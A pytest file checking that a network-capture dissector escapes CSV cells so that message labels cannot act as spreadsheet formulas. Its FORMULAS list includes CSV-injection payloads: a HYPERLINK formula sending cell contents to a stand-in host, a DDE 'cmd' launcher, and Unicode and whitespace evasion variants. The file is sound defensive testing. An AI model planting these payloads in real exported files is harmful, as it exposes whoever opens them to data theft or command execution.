"""CSV for spreadsheets: texts that a sender has chosen are no formulas there, and no text is lost."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pytest

from msmqwire.cli.tables import to_csv
from msmqwire.tables.spreadsheet import escaped, escaped_column, unescaped
from tests.support import captures as c
from tests.support import handmade as h
from tests.support.running import called

FORMULAS = [
    '=HYPERLINK("http://10.0.0.9/?"&A1,"order")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "\n=1+1", "\tx", "\rx", "\nx",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1",
]  # fmt: skip
OTHERS = ["order 7", "a=1", "x\n=1+1", 'a",=1+1', "é", "1.5", " x", "日本"]
QUOTED = ["'", "'order", "'=1+1", "''"]


@pytest.fixture
def capture(tmp_path: Path) -> Path:
    talk = c.TcpConversation(start_ns=c.START_NS).handshake()
    for label in FORMULAS + OTHERS + QUOTED:
        talk = talk.send(h.user_message(properties=h.properties_header(label=label, body=b"=1")))
    path = tmp_path / "hostile.pcap"
    path.write_bytes(c.pcap_bytes(talk.close().frames))
    return path


def test_a_cell_is_no_formula_and_can_be_taken_back() -> None:
    assert [escaped(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [escaped(text) for text in OTHERS] == OTHERS
    assert [escaped(text) for text in QUOTED] == [f"'{text}" for text in QUOTED]
    for text in ("", *FORMULAS, *OTHERS, *QUOTED):
        assert unescaped(escaped(text)) == text


@pytest.mark.parametrize(
    "texts",
    [[], [None], [""], ["", None], ["a", "=1", None, "", "'"], FORMULAS, OTHERS, ["a" * 300, "é"]],
    ids=("none", "null", "empty", "empty and null", "all", "formulas", "others", "long"),
)
def test_a_column_has_the_cells_of_its_texts(texts: list[str | None]) -> None:
    column = pa.array(texts, pa.string())
    for start in range(len(texts) + 1):  # parts of a column share its buffers
        part = escaped_column(column[start:])
        assert part.to_pylist() == [None if text is None else escaped(text) for text in texts[start:]]


@pytest.mark.parametrize("workers", ["1", "2"])
def test_labels_of_a_hostile_sender_in_csv(capture: Path, workers: str) -> None:
    columns = ("--columns", "label,body,size,correlation_id", "--workers", workers)
    labels = FORMULAS + OTHERS + QUOTED
    rows = list(csv.reader(io.StringIO(called("dissect", capture, "--csv", *columns).out, newline="")))
    assert [row[0] for row in rows[1:]] == [escaped(label) for label in labels]
    assert [unescaped(row[0]) for row in rows[1:]] == labels
    assert {row[1] for row in rows[1:]} == {"3d31"}
    assert all(row[2].isdigit() for row in rows[1:])
    raw = list(csv.reader(io.StringIO(called("dissect", capture, "--csv-raw", *columns).out, newline="")))
    assert [row[0] for row in raw[1:]] == labels
    assert [row[1:] for row in raw] == [row[1:] for row in rows]


def test_a_negative_number_is_no_formula() -> None:
    out = io.BytesIO()
    batch = pa.record_batch({"number": pa.array([-1], pa.int64()), "text": pa.array(["-1"])})
    with to_csv(out)(batch.schema) as write:
        write(batch)
    assert list(csv.reader(io.StringIO(out.getvalue().decode()))) == [["number", "text"], ["-1", "'-1"]]


def test_only_one_of_the_two() -> None:
    assert called("dissect", "x.pcap", "--csv", "--csv-raw").status == 2
